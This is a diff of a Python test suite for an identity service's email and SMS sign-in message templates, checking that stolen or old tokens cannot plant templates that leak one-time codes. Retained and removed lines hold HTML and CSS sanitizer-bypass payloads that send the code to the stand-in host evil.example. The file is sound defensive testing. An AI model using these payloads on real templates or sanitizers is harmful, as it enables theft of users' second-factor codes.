@@ -134,9 +134,12 @@ class TestMessages:
 
     PICTURE = '<p>{code}</p><img src="https://evil.example/p.gif?c={code}">'
 
-    @pytest.fixture(autouse=True)
-    def codes_by_email(self, acme):
-        switch_on(acme, "Totp", EMAIL)
+    @pytest.fixture(
+        autouse=True, params=[("Totp", EMAIL), ()], ids=["with codes as factors", "without factors"]
+    )
+    def factors(self, acme, request):
+        if request.param:
+            switch_on(acme, *request.param)
 
     def template(self, **more):
         template = {"purpose": "second_factor", "channel": "email", "language": "", "subject": "Hello"}
@@ -146,7 +149,7 @@ class TestMessages:
         return caller.patch("/sign-in-experience", message_templates=list(templates))
 
     @pytest.mark.parametrize("purpose", CODES)
-    def test_attack_AP47_an_old_token_does_not_change_where_the_code_is_shown(self, admin, thief, purpose):
+    def test_attack_AP49_an_old_token_does_not_change_where_the_code_is_shown(self, admin, thief, purpose):
         own = self.template(purpose=purpose)
 
         assert is_refused(self.send(thief, own))
@@ -155,67 +158,34 @@ class TestMessages:
         assert is_refused(self.send(thief, own | {"text": "https://evil.example/{code}"}))
         assert result_of(admin.get("/sign-in-experience"))["message_templates"] == [own]
 
-    def test_attack_AP47_a_recent_one_does_and_so_does_an_application(self, acme, recent):
+    def test_attack_AP49_an_old_token_plants_none_before_there_are_factors(self, acme, admin, thief):
+        own = self.template()
+
+        assert is_refused(self.send(thief, own))
+        assert is_refused(self.send(thief, own | {"channel": "sms", "subject": "", "html": ""}))
+        assert result_of(admin.get("/sign-in-experience"))["message_templates"] == []
+
+    def test_attack_AP49_a_recent_one_does_and_so_does_an_application(self, acme, recent):
         for language, caller in (("de", recent), ("fr", management.machine(acme))):
             result_of(self.send(caller, self.template(language=language)))
 
-    def test_attack_AP47_messages_without_such_codes_need_no_proof(self, admin, thief):
+    def test_attack_AP49_messages_without_codes_need_no_proof(self, admin, thief):
         own = [self.template(), self.template(language="de")]
         result_of(self.send(admin, *own))
         notice = self.template(purpose=Notice.PASSWORD_CHANGED, text="Hello", html="")
-        sms = self.template(channel="sms", subject="", html="")
 
-        result_of(self.send(thief, sms, *reversed(own), notice))
+        result_of(self.send(thief, *reversed(own), notice))
 
-    def test_attack_AP47_an_unattended_session_changes_none_either(self, acme, old_session):
+    def test_attack_AP49_an_unattended_session_changes_none_either(self, acme, old_session):
         with acme.active():
             pk = experience.current().pk
         page = f"/admin/experience/signinexperience/{pk}/do"
 
-        asked = old_session.get(f"{page}/message-second_factor-email-any/")
-
-        assert asked.headers["Location"].startswith("/admin/confirm/")
-        for other in ("second_factor-sms-any", f"{Notice.PASSWORD_CHANGED}-email-any"):
-            assert old_session.get(f"{page}/message-{other}/").status_code == 200
-
-    @pytest.mark.parametrize(
-        "html",
-        [
-            PICTURE,
-            "{code}<p style='background: url(https://evil.example/{code})'>",
-            "{code}<a href='https://evil.example/' ping='https://evil.example/{code}'>",
-            "{code}<style>p { background: url(https://evil.example/{code}) }</style>",
-            "{code}<style/>p { background: url(https://evil.example/{code}) }</style>",
-            "{code}<!--[if mso]><img src='https://evil.example/{code}'><![endif]-->",
-            "{code}<img src='https://evil.example/{code}",
-            "{code}<style></stylex>{} body { background: url(https://evil.example/{code}) }</style>",
-            """{code}<a style='background: /* href="*/ url(https://evil.example/{code}) /*" */'>""",
-            """{code}<textarea><a href="</textarea><img src=https://evil.example/{code}>"></a>""",
-            """{code}<title><a href="</title><img src=https://evil.example/{code}>"></a>""",
-            """{code}<a x=" href='" style="background: url(//evil.example/{code}); x: '">x</a>""",
-            """{code}<img a" src="https://evil.example/?x>{code}">""",
-            """{code}<img a==" src="https://evil.example/?x>{code}">""",
-            """{code}<img =" src="https://evil.example/?x>{code}">""",
-            """{code}<!--><img src="https://evil.example/?--> {code}">""",
-            """{code}<textarea><style></textarea><img src="</style> {code}">""",
-            """{code}<svg><![CDATA[><p b="]]><img src="https://evil.example/?>{code}">""",
-        ],
-    )
-    def test_attack_AP47_nobody_has_pictures_tell_the_code(self, recent, html):
-        says = "may contain {code} only in the text and in the href of a link"
-
-        assert says in refusal_of(self.send(recent, self.template(html=html)), 400)
-
-    @pytest.mark.parametrize(
-        "html",
-        [
-            "<!doctype html><title>{code}</title><style>p > b { top: 0 }</style><b>{code}</b> 1 < 2 {code}",
-            "<a href='https://app.example/enter?code={code}'>Enter {code}</a>",
-            "<td width=9 title='a>b'><a class=\"b\" href=https://app.example/{code} target=_blank>{code}</a>",
-        ],
-    )
-    def test_people_may_read_it_and_follow_a_link_with_it(self, recent, html):
-        result_of(self.send(recent, self.template(html=html)))
+        for channel in ("email", "sms"):
+            asked = old_session.get(f"{page}/message-second_factor-{channel}-any/")
+            assert asked.headers["Location"].startswith("/admin/confirm/")
+        notice = old_session.get(f"{page}/message-{Notice.PASSWORD_CHANGED}-email-any/")
+        assert notice.status_code == 200
 
     def test_a_template_of_an_earlier_release_does_not_stop_changes_of_others(self, acme, recent):
         with acme.active():
